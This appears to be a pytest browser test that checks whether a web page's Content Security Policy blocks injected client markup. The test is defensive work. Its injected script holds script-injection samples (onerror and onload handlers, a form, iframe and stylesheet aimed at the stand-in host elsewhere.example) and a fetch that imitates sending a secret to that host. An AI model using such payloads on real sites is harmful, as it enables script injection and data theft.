"""What the page's policy holds back, were markup of a client's to get into the page all the same."""

from __future__ import annotations

from typing import TYPE_CHECKING

import pytest

if TYPE_CHECKING:
    from conftest import Baton  # type: ignore[import-not-found]

pytestmark = [pytest.mark.slow, pytest.mark.xdist_group("browser")]

INJECTED = """async () => {
  window.ran = [];
  ran.held = new Set();
  document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) => ran.held.add(effectiveDirective));
  const place = document.body.appendChild(document.createElement("div"));
  place.innerHTML = `
    <img src="https://elsewhere.example/a.png?q=secret" onerror="ran.push('image')">
    <img src="/look/none.png" onerror="ran.push('handler')"><svg onload="ran.push('svg')"></svg>
    <iframe src="https://elsewhere.example/"></iframe><object data="https://elsewhere.example/o"></object>
    <video src="https://elsewhere.example/v.mp4"></video><link rel="stylesheet" href="https://elsewhere.example/x.css">
    <form action="https://elsewhere.example/f"><button>send</button></form>
    <style>#none, body::after { content: ""; background: url(https://elsewhere.example/bg.png) }</style>`;
  place.querySelector("button").click();
  try { await fetch("https://elsewhere.example/f?q=secret"); ran.push("fetch"); } catch {}
  await new Promise((resolve) => setTimeout(resolve, 1000));
  return { ran: [...ran], held: [...ran.held].sort() };
}"""
HELD = {
    "script-src-attr",
    "img-src",
    "connect-src",
    "frame-src",
    "object-src",
    "media-src",
    "style-src-elem",
    "form-action",
}


def test_injected_markup_runs_nothing_and_calls_nobody(baton: Baton) -> None:
    context = baton.browser.new_context()
    page = context.new_page()
    answered: list[str] = []
    page.on("response", lambda reply: answered.append(reply.url))
    violations: list[str] = []
    page.on("console", lambda said: violations.append(said.text) if "Content Security Policy" in said.text else None)
    page.goto(baton.url)
    page.wait_for_function("document.querySelector('#tab-ask-button') && window.baton")
    page.wait_for_timeout(2000)
    assert violations == []  # the page itself is at ease with it
    found = page.evaluate(INJECTED)
    assert found["ran"] == []
    assert set(found["held"]) >= HELD
    assert not [address for address in answered if "elsewhere" in address]
    assert page.url.startswith(baton.url)
    context.close()
